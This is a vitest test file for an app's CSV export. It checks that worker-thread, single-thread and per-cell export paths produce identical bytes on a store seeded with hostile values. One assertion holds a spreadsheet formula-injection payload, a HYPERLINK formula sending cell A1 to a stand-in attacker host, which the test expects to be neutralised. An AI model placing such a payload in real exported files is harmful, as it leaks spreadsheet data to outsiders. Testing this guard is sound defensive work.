// Decision 6 of issue 14: the CSV export writes the store's joined cells as they are when nothing
// in them needs quoting or the formula guard, and falls back to formatting each cell otherwise.
// On a real store (made by the appender) with hostile values, the worker threads, the one-thread
// pieces and the row-at-a-time writer (each cell through csvCell) must write the same bytes.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { generateDemoEvents } from '../../electron/demo/generate';
import { exportCsv, exportCsvPieces } from '../../electron/export/csv';
import { csvLineFromCells } from '../../electron/export/csv-line';
import { CsvPieces } from '../../electron/export/csv-pieces';
import { csvPiecesInWorkers, csvWorkerEntry } from '../../electron/export/csv-workers';
import type { ExportRow } from '../../electron/export/rows';
import { csvBlockSelect, eventSeqRange, iterateCsvRows, type CsvCellsRow } from '../../electron/store/exportRows';
import { storeWith } from '../helpers/store';
import { tempDir } from '../helpers/tmp';
import { nastyRecords } from './rows';
import { derivedColumnList } from '../../electron/store/eventColumns';

const opts = { filter: {}, checkpoint: null, signtrailVersion: '0.1.0-test', user: 'tester', now: () => new Date(0) };
const everything = { sql: '', params: [], hasKeyword: false, conditions: [], fts: null };

describe('CSV export from the joined cells (real store, hostile values)', () => {
  it('writes the same bytes from two workers, from one thread and one cell at a time', async () => {
    const dir = tempDir();
    const file = path.join(dir, 'case.sqlite');
    const nasty = nastyRecords();
    // The hostile records both first and among the demo events, so they land in both workers' blocks.
    const demo = [...generateDemoEvents({ count: 4000 })];
    const db = storeWith(
      [...nasty, ...demo.slice(0, 2000), ...nasty.map((r) => ({ ...r, id: r.id + '-b' })), ...demo.slice(2000)],
      file,
    );
    try {
      const all = db
        .prepare(`SELECT e.seq, e.canon, e.leaf, ${derivedColumnList('e.')} FROM events e ORDER BY e.seq`)
        .all() as ExportRow[];
      const reference = await exportCsv(all, path.join(dir, 'reference.csv'), opts);

      const { rows, bySeq } = iterateCsvRows(db, everything);
      const cellsRows = [...rows] as CsvCellsRow[];
      const fallbacks = cellsRows.filter((r) => csvLineFromCells(r) === null).map((r) => r[0]);
      // Every hostile record needing quotes or the guard takes the fallback; the demo events do not.
      expect(fallbacks.length).toBeGreaterThanOrEqual(2 * (nasty.length - 4));
      expect(fallbacks.length).toBeLessThan(cellsRows.length / 10);
      const oneThread = await exportCsvPieces(
        new CsvPieces(cellsRows[Symbol.iterator](), 4096, bySeq),
        path.join(dir, 'one-thread.csv'),
        opts,
      );
      expect(oneThread.sha256).toBe(reference.sha256);

      const [firstSeq, lastSeq] = eventSeqRange(db);
      const plan = {
        dbPath: file,
        sql: csvBlockSelect(everything),
        params: [],
        firstSeq,
        lastSeq,
        workers: 2,
        blockSeqs: 257,
      };
      const parallel = await exportCsvPieces(
        csvPiecesInWorkers(plan, csvWorkerEntry()!),
        path.join(dir, 'two.csv'),
        opts,
      );
      expect(parallel.sha256).toBe(reference.sha256);
      expect(parallel.rows).toBe(4000 + 2 * nasty.length);

      const text = readFileSync(path.join(dir, 'two.csv'), 'utf8');
      // The hostile cells are there, guarded and quoted as csvCell makes them.
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
      expect(text).toContain('"line\nbreak"');
      expect(text).toContain(',",leading comma",');
      expect(text).toContain(',unit\u001fseparator,');
      expect(text).toContain('ünïcödé ✓ 🎉');
      expect(text).toContain(`,"'@SUM(A1:A9)",`);
    } finally {
      db.close();
    }
  }, 60_000);
});
